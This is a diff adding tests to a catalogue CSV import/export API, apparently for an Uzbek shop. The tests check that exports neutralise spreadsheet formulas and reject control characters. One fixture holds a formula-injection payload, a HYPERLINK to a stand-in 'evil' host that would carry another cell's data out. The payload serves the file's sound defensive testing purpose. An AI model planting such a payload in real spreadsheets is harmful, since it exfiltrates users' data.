@@ -3,14 +3,15 @@
  * prices, visibility and stock in a spreadsheet (`;` or `,`, with or without a BOM, quoted cells), see the
  * dry run list every change and every bad row (row number, reason in the request's language) while nothing
  * changes, apply it all in one transaction — or nothing when a row is bad or the catalogue moved since the
- * dry run — and find the stock changes as `import` movements and the import in the audit log.
+ * dry run — and find the stock changes as `import` movements and the import in the audit log. An export
+ * never hands a spreadsheet a formula, and what it wrote reads back as it was.
  */
 import fs from 'node:fs';
 import path from 'node:path';
 import { sql } from 'drizzle-orm';
 import { type StaffRole } from '../src/db/schema/index.js';
 import { queryRows } from '../src/db/client.js';
-import { parseCsv } from '../src/modules/admin-catalog/csv.js';
+import { neutraliseCell, parseCsv, restoreCell } from '../src/modules/admin-catalog/csv.js';
 import { DB_KINDS, type TestApp, bearer, createTestApp } from './helpers.js';
 import { multipartBody, staffTokens } from './admin-catalog-helpers.js';
 
@@ -227,5 +228,57 @@ describe.each(DB_KINDS)('catalogue CSV import and export (%s)', (kind) => {
     }
     const noFile = await t.app.inject({ method: 'POST', url: '/api/admin/catalog/import/dry-run', headers: { ...bearer(tokens.manager), 'content-type': 'application/json' }, payload: {} });
     expect(noFile.statusCode).toBe(422);
+  });
+
+  test('the export hands a spreadsheet no formula: a cell starting with = + - @ gets a \' first, and the import reads each back as it was', async () => {
+    const [v, w] = await queryRows<{ id: number; product_id: number; price_individual: number }>(
+      t.database.db,
+      sql`select v.id, v.product_id, v.price_individual from variants v join products p on p.id = v.product_id
+          where p.status = 'active' and jsonb_array_length(v.options) > 0 order by v.id desc limit 2`,
+    );
+    const hyperlink = '=HYPERLINK("http://evil/?d="&B3,"Ochish")';
+    await t.database.db.execute(sql`update products set name = jsonb_set(name, '{uz}', to_jsonb(${hyperlink}::text)) where id = ${v!.product_id}`);
+    await t.database.db.execute(sql`update variants set sku = '-5', options = jsonb_set(options, '{0,label,uz}', '"@SUM(1)"') where id = ${v!.id}`);
+    await t.database.db.execute(sql`update variants set sku = '+998901234567' where id = ${w!.id}`);
+
+    const file = await exportCsv();
+    const records = parseCsv(file.toString('utf8').slice(1), ';');
+    const row = records.find((r) => r.cells[0] === "'-5")!;
+    expect(row.cells[1]).toBe(`'${hyperlink}`);
+    expect(row.cells[2]).toMatch(/^'@SUM\(1\)/);
+    expect(records.find((r) => r.cells[0] === "'+998901234567")).toBeDefined();
+    expect(records.flatMap((r) => r.cells).filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    // read back: every row as it is
+    const roundTrip = await dryRun(file);
+    expect([roundTrip.errors, roundTrip.changes]).toEqual([[], []]);
+
+    // as a manager edits it: the ' stays in front of what the export wrote; a price "-5" is still a negative price
+    const edited = await dryRun(`sku;price_individual\n'-5;${v!.price_individual + 1000}\n'+998901234567;'-5\n`);
+    expect(edited.changes).toEqual([{ row: 2, sku: '-5', field: 'price_individual', before: v!.price_individual, after: v!.price_individual + 1000 }]);
+    expect(edited.errors).toEqual([{ row: 3, sku: '+998901234567', column: 'price_individual', message: 'The price is 1 to 2 000 000 000 soʻm.' }]);
+
+    // Values that truly start with apostrophes come back with all of them.
+    for (const value of ['-5', '+998901234567', '=1+1', '@SUM(1)', '\t=1', '\r=1', "'=1", "''-5", "'plain", "'", 'plain', '', '5-1']) {
+      expect(neutraliseCell(value)).not.toMatch(/^[=+\-@\t\r]/);
+      expect(restoreCell(neutraliseCell(value))).toBe(value);
+    }
+  });
+
+  test('a NUL or another control character in a cell or in the file name is a 422 naming the file (and the cell), never a 500', async () => {
+    const [a] = await sample(1);
+    for (const [file, cell] of [
+      [`sku;price_individual\n${a!.sku}\u0000;100\n`, 'row 2, column “sku”'],
+      [`sku;price_individual\n${a!.sku};12\u001b500\n`, 'row 2, column “price_individual”'],
+      [`sku;product;price_individual\n${a!.sku};Choy\u0000nak;100\n`, 'row 2, column “product”'],
+    ]) {
+      const res = await upload('/api/admin/catalog/import/dry-run', file!);
+      expect([res.statusCode, res.json().error.code, res.json().error.fields]).toEqual([422, 'IMPORT_FILE_INVALID', { file: 'Contains characters that are not allowed (such as control characters or broken Unicode).' }]);
+      expect(res.json().error.message).toContain(cell);
+    }
+    const good = `sku;price_individual\n${a!.sku};${a!.price_individual + 1}\n`;
+    for (const url of ['/api/admin/catalog/import/dry-run', '/api/admin/catalog/import/apply']) {
+      const named = await upload(url, good, 'en', 'token', 'prices\u0000.csv');
+      expect([named.statusCode, named.json().error.fields]).toEqual([422, { file: 'Contains characters that are not allowed (such as control characters or broken Unicode).' }]);
+    }
   });
 });
